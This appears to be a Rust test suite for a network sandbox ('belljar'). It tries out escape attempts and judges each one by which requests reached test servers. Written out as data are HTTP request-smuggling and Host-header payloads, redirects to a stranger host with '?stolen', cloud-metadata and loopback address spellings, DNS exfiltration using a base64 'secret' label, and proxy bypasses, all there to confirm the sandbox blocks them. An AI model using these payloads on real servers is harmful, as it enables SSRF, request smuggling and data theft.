//! Code inside that wants to get where it may not: each attack beside the same traffic where it is granted, and judged by what
//! arrived at the world's servers.

use std::net::UdpSocket;

use belljar_testkit::Who;
use belljar_testkit::project::Said;
use belljar_testkit::twice::Check;
use serde_json::Value;

use crate::told;
use crate::world::{NAME, OTHER, STRANGER, World};

pub const ALL: &[(&str, Check)] = &[
    ("a_redirect_leads_to_no_host_that_is_not_granted", redirect),
    ("a_request_for_another_host_does_not_go_to_this_one", other_host),
    ("no_request_is_smuggled_behind_another", smuggled),
    ("no_spelling_of_an_address_leads_to_the_hosts_own_servers", spellings),
    ("a_grant_of_all_addresses_is_none_of_those_at_home", all_addresses),
    ("a_name_in_tls_that_is_another_is_refused", other_name),
    ("datagrams_and_names_lead_to_nobody", datagrams),
    ("settings_of_proxies_change_nothing", proxies),
    ("other_ports_of_a_granted_host_are_not_granted", ports),
    ("a_server_inside_is_not_reached_from_outside_unless_it_is_published", inside),
    ("a_project_grants_itself_nothing", project),
];

/// In a sandbox where all servers are granted by one name.
pub fn in_the_open(world: &World, more: &[&str], words: &[&str]) -> Result<Said, String> {
    let open = world.open();
    let flags: Vec<&str> = open.iter().map(String::as_str).chain(more.iter().copied()).collect();
    world.run(&flags, words)
}

/// The paths of requests that arrived.
pub fn paths(world: &World) -> Result<Vec<String>, String> {
    let path = |one: &Value| one["path"].as_str().unwrap_or("(not HTTP)").to_owned();
    Ok(world.arrived()?.iter().map(path).collect())
}

pub fn same<T: PartialEq + std::fmt::Debug>(got: T, wanted: T, said: impl std::fmt::Debug) -> Result<(), String> {
    if got == wanted { Ok(()) } else { Err(format!("{got:?} is not {wanted:?}: {said:?}")) }
}

fn redirect(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let at = |path: &str| format!("http://{NAME}:{}{path}", world.http);
    let fine = at(&format!("/redirect?{}", at("/echo")));
    let bad = at(&format!("/redirect?http://{STRANGER}:{}/echo?stolen", world.http));
    let home = at(&format!("/redirect?http://127.0.0.2:{}/echo?stolen", world.http));
    for (url, works) in [(&fine, true), (&bad, false), (&home, false)] {
        let said = in_the_open(&world, &[], &["curl", "-sSL", "-m", "10", url])?;
        same(said.code == Some(0), works, &said)?;
    }
    let paths = paths(&world)?;
    same(paths.len(), 4, &paths)?;
    same(paths.iter().any(|path| path.starts_with("/echo?stolen")), false, &paths)
}

/// Says each of some texts on a connection of its own, and prints the first line of what comes back.
fn says(port: u16, texts: &[String]) -> String {
    let list = told(serde_json::to_string(texts)).unwrap_or_default();
    format!(
        r#"
import json, socket
for text in json.loads({list:?}):
    s = socket.create_connection(("{NAME}", {port}), 10)
    s.settimeout(3)
    got = b""
    try:
        s.sendall(text.encode("latin-1"))
        while piece := s.recv(65536):
            got += piece
    except OSError as error:
        got += b" " + str(error).encode()
    print(got[:12], got.count(b"HTTP/1.1 200"))
"#
    )
}

fn other_host(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let (port, end) = (world.http, "Connection: close\r\n\r\n");
    let fine = format!("GET /echo?fine HTTP/1.1\r\nHost: {NAME}:{port}\r\n{end}");
    let bad = [
        format!("GET /echo?1 HTTP/1.1\r\nHost: {OTHER}:{port}\r\n{end}"),
        format!("GET /echo?2 HTTP/1.1\r\nHost: {NAME}:{port}\r\nHost: {OTHER}\r\n{end}"),
        format!("GET http://{OTHER}:{port}/echo?3 HTTP/1.1\r\nHost: {NAME}:{port}\r\n{end}"),
        format!("GET /echo?4 HTTP/1.1\r\n{end}"),
        format!("CONNECT {OTHER}:{port} HTTP/1.1\r\nHost: {NAME}:{port}\r\n{end}"),
        format!("GET /echo?5 HTTP/1.1\r\nHost: {NAME}:{port}@{OTHER}\r\n{end}"),
        format!("GET /echo?6 HTTP/1.1\r\nHost: {NAME}.:{port}\r\n{end}"),
        format!("GET /echo?7 HTTP/1.1\r\nHost : {OTHER}\r\nHost: {NAME}:{port}\r\n{end}"),
        format!("\r\nGET /echo?8 HTTP/1.1\r\nHost: {OTHER}:{port}\r\n{end}"),
        format!("GET /echo?9 HTTP/1.1\r\nX: y\r\n Host: {OTHER}\r\nHost: {NAME}:{port}\r\n{end}"),
    ];
    let all: Vec<String> = std::iter::once(fine).chain(bad).collect();
    let said = in_the_open(&world, &[], &["/usr/bin/python3", "-c", &says(port, &all)])?;
    same(paths(&world)?, vec!["/echo?fine".to_owned()], &said)
}

fn smuggled(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let port = world.http;
    let hidden = format!("GET /hidden HTTP/1.1\r\nHost: {NAME}:{port}\r\n\r\n");
    let with =
        |headers: &str, body: &str| format!("POST /echo HTTP/1.1\r\nHost: {NAME}:{port}\r\n{headers}\r\n\r\n{body}");
    let length = |more: usize| format!("Content-Length: {}", hidden.len() + more);
    let bad = [
        with(&format!("{}\r\nTransfer-Encoding: chunked", length(5)), &format!("0\r\n\r\n{hidden}")),
        with(&format!("Transfer-Encoding: chunked\r\n{}", length(5)), &format!("0\r\n\r\n{hidden}")),
        with("Content-Length: 0\r\nContent-Length: 5", &hidden),
        with("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", &format!("0\r\n\r\n{hidden}")),
        with("Transfer-Encoding: xchunked", &hidden),
        with("Transfer-Encoding : chunked", &format!("0\r\n\r\n{hidden}")),
        with("Transfer-Encoding: chunked", &format!("0;a=b\r\n\r\n{hidden}")),
        with("Transfer-Encoding: chunked", &format!("0\n\n{hidden}")),
        with("Content-Length: +0", &hidden),
        with("Content-Length: 0\nX: y", &hidden),
        with("X: y\r\0Content-Length: 0", &hidden),
        with(&format!("Upgrade: h2c\r\nConnection: Upgrade\r\n{}", length(0)), &hidden),
    ];
    // What stands in a body that is whole is a body; what stands after it is a request, which is judged like any other.
    let fine = with(&length(0), &hidden);
    let said = in_the_open(&world, &[], &["/usr/bin/python3", "-c", &says(port, &bad)])?;
    same(paths(&world)?, Vec::new(), &said)?;
    let said = in_the_open(&world, &[], &["/usr/bin/python3", "-c", &says(port, &[fine])])?;
    same(paths(&world)?, vec!["/echo".to_owned()], &said)?;
    let whole = format!("{}{}", with("Content-Length: 0", ""), hidden.replace("/hidden", "/echo?second"));
    let said = in_the_open(&world, &[], &["/usr/bin/python3", "-c", &says(port, &[whole])])?;
    same(paths(&world)?.pop(), Some("/echo?second".to_owned()), &said)
}

fn spellings(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let script = |hosts: &str| {
        format!(
            r#"
import socket
for host in "{hosts}".split():
    for port in ({}, {}):
        try:
            s = socket.create_connection((host, port), 3)
            s.sendall(b"GET /echo?reached HTTP/1.1\r\nHost: {NAME}\r\nConnection: close\r\n\r\n")
            print(host, port, s.recv(100))
        except OSError as error:
            print(host, port, error)
"#,
            world.http, world.raw
        )
    };
    let all = "127.0.0.1 127.0.0.2 0.0.0.0 0 2130706433 0x7f.1 017700000001 127.1 ::1 :: ::ffff:127.0.0.1 ::127.0.0.1 \
               64:ff9b::7f00:1 2002:7f00:1::1 ::ffff:0:7f00:1 169.254.169.254 10.0.0.1 172.17.0.1 192.168.0.1 100.100.100.200 \
               fd00:ec2::254 fe80::1 224.0.0.1 255.255.255.255 198.18.0.1 198.18.1.1 198.18.1.2 fd62:656c:6c6a::1:0:0 localhost \
               api.world.test";
    // A grant of any name, of a public address, and of a port that is another one of the loopback: none is a grant of this.
    let flags = ["--allow-net=*:*", "--allow-net=1.1.1.1:*", "--allow-net=localhost:1"];
    let said = world.run(&flags, &["/usr/bin/python3", "-c", &script(all)])?;
    same(world.arrived()?.len(), 0, &said)?;
    let said = in_the_open(&world, &[], &["/usr/bin/python3", "-c", &script(NAME)])?;
    same(world.arrived()?.is_empty(), false, &said)
}

fn all_addresses(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    // A name that leads home, the address itself, one of this machine's others, and one of its network's.
    let script = format!(
        r#"
import socket
for host in ("{NAME}", "127.0.0.2", "169.254.169.254", "10.0.0.1", "192.168.0.1", "fd00::1", "fe80::1"):
    try:
        s = socket.create_connection((host, {0}), 5)
        s.sendall(b"GET /echo?home HTTP/1.1\r\nHost: {NAME}:{0}\r\nConnection: close\r\n\r\n")
        print(host, s.recv(100))
    except OSError as error:
        print(host, error)
"#,
        world.http
    );
    let name = format!("--allow-net={NAME}:{}", world.http);
    let wide = [
        name.as_str(),
        "--allow-net=0.0.0.0/0:*",
        "--allow-net=[::/0]:*",
        "--allow-net=*:*",
        "--allow-net=96.0.0.0/3:*",
    ];
    let said = world.run(&wide, &["/usr/bin/python3", "-c", &script])?;
    same(world.arrived()?.len(), 0, &said)?;
    same(said.error.contains("leads to a loopback address"), true, &said)?;
    // The same with a block that means it.
    let means = [name.as_str(), &format!("--allow-net=127.0.0.0/8:{}", world.http)];
    let said = world.run(&means, &["/usr/bin/python3", "-c", &script])?;
    same(world.arrived()?.is_empty(), false, &said)
}

fn other_name(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let script = |name: &str| {
        format!(
            r#"
import socket, ssl
context = ssl._create_unverified_context()
s = socket.create_connection(("{NAME}", {}), 10)
s = context.wrap_socket(s, server_hostname={name})
s.sendall(b"GET /echo HTTP/1.1\r\nHost: {NAME}:{}\r\nConnection: close\r\n\r\n")
print(s.recv(100))
"#,
            world.https, world.https
        )
    };
    for name in [format!("'{OTHER}'"), format!("'{STRANGER}'"), "None".to_owned(), format!("'x.{NAME}'")] {
        let said = in_the_open(&world, &[], &["/usr/bin/python3", "-c", &script(&name)])?;
        same((said.code == Some(0), world.arrived()?.len()), (false, 0), &said)?;
    }
    let said = in_the_open(&world, &[], &["/usr/bin/python3", "-c", &script(&format!("'{NAME}'"))])?;
    same((said.code, world.arrived()?.len()), (Some(0), 1), &said)
}

fn datagrams(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    // Beside the server of streams that is granted.
    let outside = told(UdpSocket::bind(("127.0.0.1", world.http)))?;
    told(outside.set_nonblocking(true))?;
    let script = format!(
        r#"
import socket, struct
for host in ("{NAME}", "127.0.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"out", (host, {}))
    except OSError as error:
        print(error)
def asks(name, kind, server):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1), (server, 53))
    answer = s.recv(4096)
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
for kind in (1, 28, 16, 15, 33, 5, 12, 255, 65):
    for server in ("127.0.0.1", "8.8.8.8"):
        assert asks("c2VjcmV0.stranger.test", kind, server) == (3, 0), kind
    assert asks("c2VjcmV0.{NAME}", kind, "8.8.8.8") == (3, 0), kind
    code, answers = asks("{NAME}", kind, "8.8.8.8")
    assert (code, answers) == (0, 1 if kind in (1, 28) else 0), kind
print("asked")
"#,
        world.http
    );
    let said = in_the_open(&world, &[], &["/usr/bin/python3", "-c", &script])?;
    same(String::from_utf8_lossy(&said.out).contains("asked"), true, &said)?;
    same(outside.recv(&mut [0; 16]).is_err(), true, &said)?;
    // It would have heard it.
    let other = told(UdpSocket::bind("127.0.0.1:0"))?;
    told(other.send_to(b"out", ("127.0.0.1", world.http)))?;
    same(outside.recv(&mut [0; 16]).is_ok(), true, "a datagram of the host's own")
}

fn proxies(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let at = |name: &str| format!("http://{name}:{}/echo", world.http);
    let script = |url: &str| {
        format!(
            "unset http_proxy HTTP_PROXY https_proxy all_proxy; NO_PROXY='*' no_proxy='*' curl --noproxy '*' -fsS -m 5 {url} \
             || curl -fsS -m 5 -x http://{NAME}:{0} {url} || curl -fsS -m 5 -x socks5h://{NAME}:{0} {url} || curl -fsS -m 5 -p -x \
             http://{NAME}:{0} {url}",
            world.http
        )
    };
    let said = in_the_open(&world, &[], &["sh", "-c", &script(&at(STRANGER))])?;
    same((said.code == Some(0), world.arrived()?.len()), (false, 0), &said)?;
    let said = in_the_open(&world, &[], &["sh", "-c", &script(&at(NAME))])?;
    same((said.code, world.arrived()?.len()), (Some(0), 1), &said)
}

fn ports(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let grant = [format!("--allow-net={NAME}:{}", world.http), "--allow-net=127.0.0.1:*".to_owned()];
    let grant: Vec<&str> = grant.iter().map(String::as_str).collect();
    let script = format!(
        r#"
import socket
for port in (22, 25, 53, 80, 443, 47, {}, {}, 65535):
    try:
        s = socket.create_connection(("{NAME}", port), 3)
        s.sendall(b"GET /echo HTTP/1.1\r\nHost: {NAME}:%d\r\n\r\n" % port)
        print(port, s.recv(100))
    except OSError as error:
        print(port, error)
"#,
        world.https, world.raw
    );
    let said = world.run(&grant, &["/usr/bin/python3", "-c", &script])?;
    same(world.arrived()?.len(), 0, &said)?;
    let url = format!("http://{NAME}:{}/echo", world.http);
    let said = world.run(&grant, &["curl", "-sS", "-m", "10", &url])?;
    same((said.code, world.arrived()?.len()), (Some(0), 1), &said)
}

fn inside(who: Who) -> Result<(), String> {
    use std::io::{BufRead, BufReader, Read};
    use std::process::Stdio;
    let world = World::of(who)?;
    let free = |count: usize| -> Result<Vec<u16>, String> {
        let held = (0..count).map(|_| std::net::TcpListener::bind("127.0.0.1:0")).collect::<Result<Vec<_>, _>>();
        told(held)?.iter().map(|one| told(one.local_addr()).map(|address| address.port())).collect()
    };
    let [guest, host] = free(2)?[..] else { return Err("two ports".to_owned()) };
    let script = format!(
        "import socket\ns = socket.create_server(('0.0.0.0', {guest}))\nprint('listens', flush=True)\nc, _ = s.accept()\n\
         c.sendall(b'from inside')\nc.close()"
    );
    for published in [false, true] {
        let publish = format!("--publish={host}:{guest}");
        let flags: Vec<&str> = if published { vec![&publish] } else { vec!["--allow-net=localhost:9"] };
        let mut command = world.command(&flags, &["/usr/bin/python3", "-c", &script]);
        let mut child = told(command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn())?;
        let mut line = String::new();
        told(BufReader::new(child.stdout.take().ok_or("it has an output")?).read_line(&mut line))?;
        let direct = std::net::TcpStream::connect(("127.0.0.1", guest));
        let mut heard = String::new();
        if published {
            told(told(std::net::TcpStream::connect(("127.0.0.1", host)))?.read_to_string(&mut heard))?;
        }
        child.kill().ok();
        told(child.wait())?;
        same((line.as_str(), direct.is_err()), ("listens\n", true), published)?;
        same(heard.as_str(), if published { "from inside" } else { "" }, published)?;
    }
    Ok(())
}

fn project(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let grant = format!(
        "[network]\nallow = [\"{NAME}:{0}\", \"127.0.0.1:{0}\"]\n[secrets.API_TOKEN]\nhosts = [\"{NAME}:{0}\"]\n",
        world.http
    );
    let url = format!("http://{NAME}:{}/echo", world.http);
    world.desk.put("belljar.toml", &format!("version = 1\n{grant}"))?;
    let said = world.run(&[], &["curl", "-sS", "-m", "5", &url])?;
    same((said.code == Some(0), world.arrived()?.len()), (false, 0), &said)?;
    // The same words in the user's own policy are a grant.
    std::fs::remove_file(world.desk.project.work.join("belljar.toml")).map_err(|error| error.to_string())?;
    world.desk.policy(&grant)?;
    let said = world.run(&[], &["curl", "-sS", "-m", "5", &url])?;
    same((said.code, world.arrived()?.len()), (Some(0), 1), &said)
}
